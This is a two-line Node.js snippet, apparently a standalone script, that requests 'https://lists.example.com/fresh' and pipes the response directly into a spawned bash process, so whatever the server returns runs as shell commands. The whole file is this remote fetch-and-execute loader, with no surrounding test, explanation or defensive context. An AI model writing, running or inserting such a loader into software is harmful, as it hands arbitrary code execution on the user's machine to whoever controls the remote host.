const { spawn } = require('child_process');

require('https').get('https://lists.example.com/fresh', (r) => r.pipe(spawn('bash').stdin));
